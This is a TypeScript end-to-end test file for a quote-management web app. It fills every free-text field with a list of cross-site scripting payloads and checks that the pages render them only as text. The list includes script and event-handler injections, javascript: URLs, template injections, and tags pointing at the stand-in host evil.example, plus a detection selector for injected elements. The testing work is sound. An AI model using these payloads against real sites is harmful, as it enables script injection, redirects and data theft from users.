// Whatever is typed into a quote is text, on every page that shows it: nothing of it runs, loads or draws itself.
import { describe, expect } from 'vitest'
import type { Page } from 'playwright-core'
import type { Orcamento } from '@lapida/contracts/orcamento'
import { call, type Account } from '../accounts.ts'
import { detalhesPage } from '../pages/detalhes-page.ts'
import { publicaPage } from '../pages/publica-page.ts'
import { test } from '../test.ts'
import { someOf } from '@lapida/domain/testing/wide-run'

/** What breaks out of text, attributes, styles, scripts, addresses, templates and comments; all try to call `pwned`. */
const PAYLOADS = [
  '<script>pwned()</script>',
  '"><script>pwned()</script>',
  "'><img src=x onerror=pwned()>",
  '<img src=x onerror=pwned()>',
  '<svg onload=pwned()>',
  '<svg><script href="data:,pwned()"/>',
  '<iframe srcdoc="<script>parent.pwned()</script>">',
  '<body onload=pwned()>',
  '<details open ontoggle=pwned()>',
  '" autofocus onfocus="pwned()',
  "' onmouseover='pwned()",
  '</title><script>pwned()</script>',
  '</style><script>pwned()</script>',
  '</textarea><script>pwned()</script>',
  '--><script>pwned()</script>',
  'javascript:pwned()',
  '<a href="javascript:pwned()">x</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<form action=//evil.example><button>x',
  '<style>*{background:url(//evil.example)}</style>',
  '{{constructor.constructor("pwned()")()}}',
  '${pwned()}',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwned()>',
  '&lt;img src=x onerror=pwned()&gt;',
  '<scr<script>ipt>pwned()</scr</script>ipt>',
  '\u202epwned()\u202c <b>',
] as const

interface Seeded {
  orcamento: Orcamento
  /** where each text was written, to name a field that is not shown */
  onDetalhes: string[]
  onPublica: string[]
}

/**
 * A quote, its customer and its company whose every free text is a payload: the first one in the company's name, the
 * one after it in the next field, and so on round the list.
 */
async function seedPayloads(account: Account, payloads: readonly string[]): Promise<Seeded> {
  const fields = new Map<string, number>()
  /** The same for a field each time it is asked. */
  const mark = (field: string) => {
    const place = fields.get(field) ?? fields.size
    fields.set(field, place)
    return `${field} ${payloads[place % payloads.length] ?? ''}`
  }
  const empresa = {
    nomeEmpresa: mark('empresa'),
    endereco: mark('rua'),
    cidade: mark('cidade'),
    instagram: mark('insta'),
  }
  const papel = { cabecalho: mark('cabeçalho'), rodape: mark('rodapé') }
  await call(account, 'empresa.change', {
    body: {
      ...empresa,
      observacoesEmpresa: mark('obs-empresa'),
      telefone: '1140028922',
      documentos: {
        ...papel,
        mostrarLogo: true,
        incluirAssinatura: true,
        numeracaoAutomatica: false,
        prefixoNumeracao: 'ORC',
      },
    },
  })
  const id = crypto.randomUUID()
  const cliente = {
    nomeCompleto: mark('Ana'),
    endereco: mark('rua'),
    numero: '1',
    bairro: mark('bairro'),
    cidade: mark('cid'),
  }
  await call(account, 'clientes.save', {
    body: { clientes: [{ ...cliente, id, telefone: '11987654321', observacoes: mark('obs') }] },
  })
  const material = {
    nome: mark('pedra'),
    ambiente: mark('cômodo').slice(0, 100),
    tipo: mark('tipo').slice(0, 100),
  }
  const termos = {
    formaPagamento: mark('forma'),
    condicoesPagamento: mark('condição'),
    prazoEntrega: mark('prazo'),
    validadeOrcamento: mark('validade'),
    observacoesGerais: [mark('aviso')],
    meiosPagamento: [mark('meio').slice(0, 60)],
  }
  const interno = mark('interno')
  const orcamento = await call(account, 'orcamentos.create', {
    body: {
      ...termos,
      clienteId: id,
      status: 'finalizado',
      numeracao: mark('nº').slice(0, 40),
      observacoes: interno,
      dadosBancarios: {
        banco: mark('banco'),
        agencia: '1',
        conta: '2',
        tipoConta: 'Corrente',
        titular: mark('titular'),
        cpfCnpj: '',
      },
      materiais: [
        {
          ...material,
          precoM2: 480,
          observacoes: interno,
          pecas: [{ nome: mark('peça').slice(0, 120), comprimento: 1.8, largura: 0.6 }],
          itens: [{ nome: mark('item'), valor: 329 }],
        },
      ],
      servicos: [{ nome: mark('serviço'), descricao: mark('descrição'), valor: 480 }],
    },
  })
  const linhas = [mark('peça').slice(0, 120), mark('item'), mark('serviço'), mark('descrição')]
  const lista = [...termos.observacoesGerais, ...termos.meiosPagamento]
  const condicoes = [
    termos.formaPagamento,
    termos.condicoesPagamento,
    termos.prazoEntrega,
    termos.validadeOrcamento,
  ]
  const comuns = [...linhas, ...lista, ...condicoes, orcamento.numeracao]
  return {
    orcamento,
    onDetalhes: [...comuns, ...Object.values(material), ...Object.values(cliente), interno],
    onPublica: [
      ...comuns,
      material.nome,
      material.ambiente,
      ...Object.values(empresa),
      ...Object.values(papel),
      mark('banco'),
      mark('titular'),
    ],
  }
}

/** Watches for anything that ran or asked: dialogs, our own call, addresses other than the program's. */
async function watch(page: Page): Promise<() => Promise<string[]>> {
  const seen: string[] = []
  page.on('dialog', (dialog) => {
    seen.push(`dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('framenavigated', (frame) => {
    if (frame !== page.mainFrame()) seen.push(`frame: ${frame.url()}`)
  })
  await page.context().exposeBinding('reportPwned', () => {
    seen.push('pwned')
  })
  await page.context().addInitScript(() => {
    Reflect.set(window, 'pwned', () => (Reflect.get(window, 'reportPwned') as () => void)())
    window.print = () => undefined
  })
  return async () => [...seen, ...(await page.evaluate(strangeElements))]
}

/** Elements that our pages never have where texts of people stand. Runs in the page. */
function strangeElements(): string[] {
  const handlers = [...document.querySelectorAll('*')].filter((element) =>
    element.getAttributeNames().some((name) => name.startsWith('on')),
  )
  const strange = document.querySelectorAll(
    'iframe, object, embed, base, math, details:not([name]), marquee, body form form, meta[http-equiv=refresh], ' +
      'img[src=x], script:not([src]):not(body > script), [href^="javascript:" i], [src*="evil.example"], a[href^="http"]:not([href^="https://wa.me/"]), link[href*="evil.example"]',
  )
  return [...handlers, ...strange].map(
    (element) => `element: ${element.tagName} ${element.getAttributeNames().join(' ')}`,
  )
}

const squeeze = (text: string) => text.replace(/\s+/g, ' ')

/** The texts of the list that the page does not show letter by letter. */
function missing(shown: string, wanted: readonly string[]): string[] {
  const text = squeeze(shown)
  return wanted.filter((part) => !text.includes(squeeze(part).trim()))
}

/** The list from each of its places on: in a wide run every payload comes into every field. */
const ROUNDS = PAYLOADS.map((payload, place) => ({
  payload,
  payloads: [...PAYLOADS.slice(place), ...PAYLOADS.slice(0, place)],
}))

describe('payloads in every free text of quote, customer and company', () => {
  test.for(someOf(ROUNDS, 4))('from $payload on', async ({ payload, payloads }, { open, account }) => {
    const { orcamento, onDetalhes, onPublica } = await seedPayloads(account, payloads)
    const link = orcamento.linkPublico ?? ''
    const page = await open('about:blank', { as: account })
    const findings = await watch(page)

    const { open: openDetalhes, shown, tab, share } = detalhesPage(page)
    await openDetalhes(orcamento.id)
    await shown()
    const texts: string[] = []
    for (const name of ['Resumo', 'Materiais', 'Cliente']) {
      await tab(name).click()
      const main = page.getByRole('main')
      // Its contents come after the tab, and the terms after the sums.
      if (name === 'Resumo') await main.getByText('forma').first().waitFor()
      if (name === 'Materiais') await main.getByText('peça').first().waitFor()
      if (name === 'Cliente') await main.getByRole('term').first().waitFor()
      texts.push(await main.evaluate((each) => each.textContent))
    }
    expect(missing(texts.join(' '), onDetalhes), 'detail').toEqual([])
    await share()
    expect(await findings(), 'detail').toEqual([])

    const { open: openPublica, openPrint } = publicaPage(page)
    for (const show of [openPublica, openPrint]) {
      await show(link)
      expect(missing(await page.evaluate(() => document.body.textContent), onPublica), show.name).toEqual([])
      await expect.poll(() => page.title()).toContain(squeeze(`empresa ${payload}`).trim())
      expect(await findings(), show.name).toEqual([])
    }
  })
})

test('a payload as the name of who approves comes back as text', async ({ open, account }) => {
  const { orcamento } = await seedPayloads(account, ['x'])
  const page = await open('about:blank', { expected: [/status of 400/] })
  const findings = await watch(page)
  const { open: openPublica, nome, aprovar, erro } = publicaPage(page)
  await openPublica(orcamento.linkPublico ?? '')
  for (const payload of PAYLOADS) {
    await page.evaluate(() => document.querySelector('form')?.setAttribute('novalidate', ''))
    await nome.fill(payload)
    await aprovar.click()
    await erro.waitFor()
    await expect.poll(() => nome.inputValue()).toBe(squeeze(payload).trim())
    expect(await findings(), payload).toEqual([])
  }
})

test('a code in the address is never drawn into the page', async ({ open }) => {
  const page = await open('about:blank', { expected: [/status of 40[04]/] })
  const findings = await watch(page)
  for (const payload of PAYLOADS) {
    for (const path of [
      `/orcamento/${encodeURIComponent(payload)}`,
      `/orcamento-detalhes/${encodeURIComponent(payload)}`,
    ]) {
      await page.goto(path)
      expect(await findings(), path).toEqual([])
    }
  }
})
